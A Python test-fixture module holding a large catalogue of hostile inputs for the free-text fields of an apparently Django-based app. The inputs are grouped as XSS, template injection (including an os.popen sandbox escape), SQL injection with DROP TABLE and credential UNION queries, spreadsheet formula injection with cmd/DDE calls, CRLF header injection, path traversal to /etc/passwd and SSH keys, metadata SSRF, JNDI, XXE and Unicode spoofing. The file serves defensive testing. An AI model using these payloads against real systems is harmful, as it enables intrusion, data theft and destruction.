"""Hostile text (reliability.md §5) for every free-text field: one list, grouped by what it attacks.

A payload is text, or ``wire`` bytes for what a Python string cannot carry to the test client (lone
UTF-16 surrogates, overlong and invalid UTF-8): those are percent-encoded into the request body as
they are, and ``expected`` is what the server may keep after decoding (Django decodes form data
with errors="replace").
"""

import re
from dataclasses import dataclass
from urllib.parse import quote, quote_from_bytes


@dataclass(frozen=True)
class Payload:
    kind: str
    text: str
    wire: bytes | None = None

    @property
    def expected(self) -> str:
        """What a CharField keeps: the decoded value with surrounding whitespace stripped."""
        value = self.wire.decode("utf-8", errors="replace") if self.wire is not None else self.text
        return value.strip()

    def encoded(self) -> str:
        return quote_from_bytes(self.wire) if self.wire is not None else quote(self.text, safe="")


XSS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//x.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    '<img src="x" onerror="alert(document.cookie)">',
    "<img src=x:alert(1) onerror=eval(src)>",
    '"><svg onload=alert(1)>',
    "'><svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<body onload=alert(1)>",
    '<iframe src="javascript:alert(1)"></iframe>',
    "<iframe srcdoc='<script>alert(1)</script>'>",
    '<a href="javascript:alert(1)">点我</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    '<object data="javascript:alert(1)">',
    '<embed src="javascript:alert(1)">',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<input autofocus onfocus="alert(1)">',
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    '<div style="background:url(javascript:alert(1))">',
    '<div style="width:expression(alert(1))">',
    "<style>@import 'http://127.0.0.1:9/x.css';</style>",
    '<link rel=stylesheet href="http://127.0.0.1:9/x.css">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="http://127.0.0.1:9/">',
    '<form action="http://127.0.0.1:9/"><button>提交</button></form>',
    "<textarea></textarea><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<!--<img src=--><img src=x onerror=alert(1)//>",
    "<![CDATA[<script>alert(1)</script>]]>",
    '" onmouseover="alert(1)',
    "' onfocus='alert(1)' autofocus='",
    '" autofocus onfocus=alert(1) x="',
    "`-alert(1)-`",
    "';alert(1);//",
    '";alert(1);//',
    "\\';alert(1);//",
    "${alert(1)}",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",  # full-width < >
    "<scr\u200bipt>alert(1)</scr\u200bipt>",
    "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>",
    '<svg><a xlink:href="javascript:alert(1)"><text x="0" y="20">点</text></a></svg>',
    "<x onclick=alert(1)>点击</x>",
    '<div data-bs-toggle="modal" data-bs-target="body">',
    '<a hx-get="/admin/" hx-trigger="load">x</a>',
    '<div hx-post="/logout/" hx-trigger="load"></div>',
    "<img src=/static/x onerror=alert(1)>",
    '<img src="file:///etc/passwd">',
    '<img src="http://127.0.0.1:9/x.png">',
    '<img src="http://169.254.169.254/latest/meta-data/">',
    '<link rel="attachment" href="file:///etc/passwd">',
    '<p style="background:url(http://127.0.0.1:9/bg.png)">背景</p>',
    "张三<script>alert(1)</script>",
    "李四\"><img src=x onerror=alert('李四')>",
    "<b>加粗</b><i>斜体</i>",
    "<h1>大标题</h1>",
    "<table><tr><td>表格</td></tr></table>",
    "<",
    ">",
    "<>",
    "</",
    "<a",
    "a < b && c > d",
    "1<2>0",
    '"',
    "'",
    "\"'`<>&",
    "&amp;&lt;&gt;&quot;&#39;",
    "&",
    "&nbsp;&#0;&#x0;",
]

TEMPLATE = [
    "{{ 7*7 }}",
    "{{7*7}}",
    "{{ settings.SECRET_KEY }}",
    "{{ request.user.password }}",
    "{{ request.META }}",
    "{{ user.password }}",
    "{% debug %}",
    "{% load log %}{% get_admin_log 10 as log %}",
    "{% include 'base.html' %}",
    "{% csrf_token %}",
    "{% now 'Y' %}",
    "{% for x in 'abc' %}{{ x }}{% endfor %}",
    "{% verbatim %}",
    "{% endverbatim %}",
    "{# 注释 #}",
    "{{",
    "}}",
    "{%",
    "%}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "[[${7*7}]]",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "%(name)s %s %d %%",
    "{0} {name} {}",
    "%n%n%n%n",
]

SQL = [
    "' OR '1'='1",
    "' OR 1=1 --",
    '" OR "1"="1',
    "'; DROP TABLE cases_case; --",
    "1; DELETE FROM accounts_user",
    "') OR ('1'='1",
    "admin'--",
    "' UNION SELECT username, password FROM accounts_user --",
    "1' AND SLEEP(5)#",
    "'; SELECT pg_sleep(5); --",
    "1 OR pg_sleep(5) IS NULL",
    "' || (SELECT version()) || '",
    "%' AND 1=1 AND '%'='",
    "%",
    "%%",
    "_",
    "\\",
    "\\'",
    "\\\\",
    "'' ''",
    "$$; SELECT 1; $$",
    "E'\\x41'",
    "U&'\\0041'",
    "/**/OR/**/1=1",
    "1e308",
    "-1",
    "0x41",
    "NULL",
    "None",
    "null",
    "undefined",
    "true",
    "[]",
    "{}",
    '{"$gt": ""}',
]

FORMULA = [
    "=1+1",
    "=SUM(1,2)",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://127.0.0.1:9/?"&A1,"点此")',
    '=IMPORTXML("http://127.0.0.1:9/","//a")',
    '=WEBSERVICE("http://127.0.0.1:9/")',
    '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
    "+1+1",
    "+cmd|' /C calc'!A0",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1)",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\x00=1+1",
    " =1+1",
    "  +1+1",
    "\u3000=1+1",  # ideographic space first
    "\uff1d1+1",  # full-width =
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff20SUM(1)",
    "=1+1\t",
    "==1+1",
    "'=1+1",
    '"=1+1"',
    "=A1",
    '=INDIRECT("A1")',
    "=2*3",
    "=TODAY()",
    "=0/0",
    "=",
    "+",
    "-",
    "@",
    "--",
    "-- 注释",
    "+86 138 0013 8000",
    "-5元",
    "@张三",
    "=张三",
    "\t",
    "\r",
    "\r\n=1+1",
    "\x09\x0d=1",
]

LONG = [
    "长" * 101,
    "长" * 201,
    "a" * 301,
    "长" * 1000,
    "纠纷" * 5000,
    "x" * 100_000,
    "<script>" * 500,
    "=" * 2000,
    "\u202e" * 300,
    "\u0301" * 500,
    "😀" * 500,
    ("张三 " * 40).strip(),
]

BIDI = [
    "发票\u202efdp.exe",
    "\u202e张三",
    "张三\u202e",
    "\u202dLTR\u202c",
    "\u2066隔离\u2069",
    "\u2067RLI\u2069",
    "\u2068FSI\u2069",
    "\u200f右到左\u200e",
    "\u061c阿拉伯字母标记",
    "abc\u202edcba\u202c",
    "\u202a\u202b\u202c\u202d\u202e",
    "ملف\u202efdp.exe",
    "שלום",
    "مرحبا بالعالم",
]

ZERO_WIDTH = [
    "张\u200b三",
    "\u200b",
    "\u200c\u200d",
    "\ufeff",
    "\ufeff张三",
    "李\u2060四",
    "王\u00ad五",
    "\u180e",
    "张\u034f三",
    "e\u0301",
    "Z\u0351\u0354\u0355\u0356\u0357\u0358\u0359\u035a\u035b\u035c\u035d\u035e\u035f\u0360\u0361",
    "a" + "\u0300" * 50,
    "张" + "\u0300\u0301\u0302\u0303" * 20,
    "\u1100\u1161\u11a8",
    "ﬁ",
    "Ⅻ",
    "㍿",
    "\u2028行分隔",
    "段\u2029分隔",
    "\u0085下一行",
    "\u00a0不间断空格\u00a0",
    "\u3000全角空格\u3000",
]

FULLWIDTH = [
    "１２３４５６",
    "１１０１０５１９４９１２３１００２Ｘ",
    "１３８００１３８０００",
    "２０２６年１１月２４日",
    "ＡＢＣ",
    "＜ｓｃｒｉｐｔ＞",
    "\u0661\u0662\u0663",  # Arabic-Indic digits
    "\u0967\u0968\u0969",  # Devanagari digits
    "\U0001d7ce\U0001d7cf",  # mathematical bold digits
    "①②③",
    "一二三",
    "壹贰叁",
]

CONTROL = [
    "\x00",
    "张三\x00",
    "\x00<script>alert(1)</script>",
    "a\x00b",
    "\x01\x02\x03\x04\x05\x06\x07\x08",
    "\x0b\x0c",
    "\x0e\x0f\x10\x11\x12\x13\x14\x15\x16\x17\x18\x19\x1a",
    "\x1b[31m红色\x1b[0m",
    "\x1c\x1d\x1e\x1f",
    "\x7f",
    "\x80\x81\x9f",
    "\ufffe\uffff",
    "\ufffd",
    "\U000e0001\U000e0041",  # language tags
    "\U0010ffff",
    "\uf8ff",
    "\ue000私用区",
]

ASTRAL = [
    "😀",
    "👨\u200d👩\u200d👧\u200d👦",
    "🏳\ufe0f\u200d🌈",
    "👍🏽",
    "🇨🇳",
    "𠮷野家",
    "𡃁𪚥𰻞",
    "𝕳𝖊𝖑𝖑𝖔",
    "🀄🎴",
    "\U0001f9d1\u200d\u2696\ufe0f",
    "#\ufe0f\u20e3",
    "張三豐",
    "张三丰 / 張三豐",
    "мошенник",
    "раураl",  # Cyrillic look-alike
    "ΑΒΓ",
]

CRLF = [
    "第一行\r\n第二行",
    "第一行\n第二行",
    "第一行\r第二行",
    "\r\n\r\n",
    "张三\r\nSet-Cookie: sessionid=x",
    "x\r\nContent-Type: text/html\r\n\r\n<script>alert(1)</script>",
    "%0d%0aSet-Cookie:x=1",
    "line\u2028line",
    "a\n" * 100,
    "\n\n\n张三\n\n\n",
    "\t制表\t符\t",
    "  前后空格  ",
]

PATHS = [
    "../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "/etc/passwd",
    "file:///etc/passwd",
    "http://169.254.169.254/latest/meta-data/",
    "http://127.0.0.1:9/",
    "\\\\server\\share",
    "C:\\Windows\\System32",
    "a.pdf\x00.html",
    "~/.ssh/id_rsa",
    "${jndi:ldap://127.0.0.1:9/a}",
    '<!ENTITY xxe SYSTEM "file:///etc/passwd">',
    '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
    "@import url(http://127.0.0.1:9/i.css);",
    "url(file:///etc/passwd)",
]

# What UTF-8 cannot carry from a Python string: sent as raw bytes.
WIRE = [
    b"\xed\xa0\x80",  # a lone high surrogate, CESU-8 style
    b"\xed\xbf\xbf",  # a lone low surrogate
    b"\xed\xa0\xbd\xed\xb8\x80",  # a surrogate pair encoded separately
    b"\xc0\xaf",  # overlong "/"
    b"\xe0\x80\xbc",  # overlong "<"
    b"\xff\xfe",
    b"\x80",
    b"\xc3",  # truncated sequence
    b"\xe5\xbc\xa0\xed\xa0\x80\xe4\xb8\x89",  # 张<lone surrogate>三
    b"\xf4\x90\x80\x80",  # beyond U+10FFFF
]


def _payloads() -> list[Payload]:
    groups = {
        "xss": XSS, "template": TEMPLATE, "sql": SQL, "formula": FORMULA, "long": LONG, "bidi": BIDI,
        "zero-width": ZERO_WIDTH, "full-width": FULLWIDTH, "control": CONTROL, "astral": ASTRAL,
        "crlf": CRLF, "path": PATHS,
    }  # fmt: skip
    items = [Payload(kind, text) for kind, texts in groups.items() for text in texts]
    items += [Payload("surrogate", "", wire) for wire in WIRE]
    seen, unique = set(), []
    for p in items:
        key = p.wire if p.wire is not None else p.text
        if key not in seen:
            seen.add(key)
            unique.append(p)
    return unique


PAYLOADS = _payloads()

KINDS = sorted({p.kind for p in PAYLOADS})

CJK = re.compile(r"[\u4e00-\u9fff]")


def label(p: Payload) -> str:
    value = p.wire.hex() if p.wire is not None else p.text
    return f"{p.kind}:{value[:40]!r}"


__all__ = ["CJK", "KINDS", "PAYLOADS", "Payload", "label"]
